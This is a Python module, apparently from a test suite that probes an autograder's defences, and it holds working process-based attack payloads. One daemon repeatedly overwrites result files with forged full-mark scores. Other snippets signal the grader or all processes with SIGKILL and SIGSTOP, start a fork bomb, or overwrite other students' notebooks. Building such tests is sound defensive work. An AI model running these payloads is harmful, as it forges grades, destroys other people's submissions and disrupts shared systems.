"""Attacks with processes: daemons that outlive the kernel, signals to the grader, fork bombs,
and a thread that goes after other submissions."""

from __future__ import annotations

import json

from master_points import POINTS, TOTAL

from attacks.code import DAEMON_SECONDS, NOT_AS_ROOT, SCOPE, fill

DAEMON = '''\
import os, subprocess, sys
_CODE = """
import glob, os, sys, time
deadline = time.time() + __SECONDS__
patterns = [p for p in __PATTERNS__ if os.getuid() != 0 or not p.startswith("/tmp/*")]
while time.time() < deadline:
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, "w") as fh:
                    fh.write(__FORGED__)
            except OSError:
                pass
    time.sleep(0.2)
"""

def _daemonize():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execv(sys.executable, [sys.executable, "-c", _CODE, __MARKER__])
        os._exit(0)
    os.wait()

_daemonize()
subprocess.Popen([sys.executable, "-c", _CODE, __MARKER__], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemons started")
'''


def daemon(patterns: list[str], marker: str) -> str:
    """A daemon that keeps writing, over every file matching `patterns`, an otter results.json
    (and report) giving every function full marks."""
    tests = [
        {"name": name, "score": points, "max_score": points, "output": "passed"}
        for name, points in POINTS.items()
    ]
    total = TOTAL
    forged = json.dumps({"score": total, "tests": tests, "forged_by": marker})
    return fill(DAEMON, patterns=patterns, forged=forged, seconds=DAEMON_SECONDS, marker=marker)


KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint('signalled')\n"

STOP_PARENT = (
    NOT_AS_ROOT + "import signal\nos.kill(os.getppid(), signal.SIGSTOP)\nprint('stopped')\n"
)

STOP_EVERYTHING = (
    NOT_AS_ROOT
    + """\
import signal
_me = os.getpid()
_stopped = []
for _pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if _pid != _me:
        try:
            os.kill(_pid, signal.SIGSTOP)
            _stopped.append(_pid)
        except OSError:
            pass
print("stopped", _stopped)
"""
)

KILLPG = (
    NOT_AS_ROOT
    + """\
import signal
for _pid in (os.getppid(), 1):
    try:
        os.killpg(os.getpgid(_pid), signal.SIGKILL)
    except OSError as exc:
        print("killpg", _pid, exc)
os.killpg(0, signal.SIGKILL)
"""
)

KILL_ALL = NOT_AS_ROOT + "import signal\nos.kill(-1, signal.SIGKILL)\nprint('still here')\n"

KILL_GRADER_PID = (
    NOT_AS_ROOT
    + """\
import signal
for _sig in (signal.SIGSTOP, signal.SIGKILL):
    for _pid in (__PID__,):
        try:
            os.kill(_pid, _sig)
            print("signalled", _pid, _sig)
        except OSError as exc:
            print("cannot signal", _pid, exc)
"""
)


def kill_grader_pid(pid: int) -> str:
    return fill(KILL_GRADER_PID, pid=pid)


FORK_BOMB = (
    NOT_AS_ROOT
    + '''\
import subprocess, sys
_BOMB = """
import os, sys, time
deadline = time.time() + __SECONDS__
for generation in range(8):
    try:
        os.fork()
    except OSError:
        break
while time.time() < deadline:
    time.sleep(1)
"""
for _ in range(4):
    try:
        subprocess.Popen([sys.executable, "-c", _BOMB, __MARKER__], start_new_session=True)
    except OSError as exc:
        print("cannot start", exc)
print("bombs away")
'''
)


def fork_bomb(marker: str) -> str:
    return fill(FORK_BOMB, seconds=DAEMON_SECONDS, marker=marker)


PEER_ATTACK = """\
import glob, json, os, threading, time
_SKELETON = __SKELETON__

def _peers():
    found = set(glob.glob(os.path.join(__FOLDER__, "**", "*.ipynb"), recursive=True))
    if _WIDE:
        found |= set(glob.glob("/tmp/**/*.ipynb", recursive=True))
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            found |= set(glob.glob(f"/proc/{pid}/cwd/*.ipynb"))
            found |= set(glob.glob(f"/proc/{pid}/root/tmp/**/*.ipynb", recursive=True))
    return sorted(p for p in found if not os.path.abspath(p).startswith(os.getcwd()))

def _hit():
    hit = []
    for path in _peers():
        try:
            with open(path, "w") as fh:
                fh.write(_SKELETON)
            hit.append(path)
        except OSError:
            pass
    for path in glob.glob("/tmp/rnn-grader-*/channel/kernel.json"):
        hit.append("connection file " + path)
    return hit

print("hit:", _hit())
def _keep():
    for _ in range(__SECONDS__):
        _hit()
        time.sleep(1)
threading.Thread(target=_keep, daemon=True).start()
"""


def peer_attack(folder: str, skeleton: str) -> str:
    return SCOPE + fill(PEER_ATTACK, folder=folder, skeleton=skeleton, seconds=DAEMON_SECONDS)
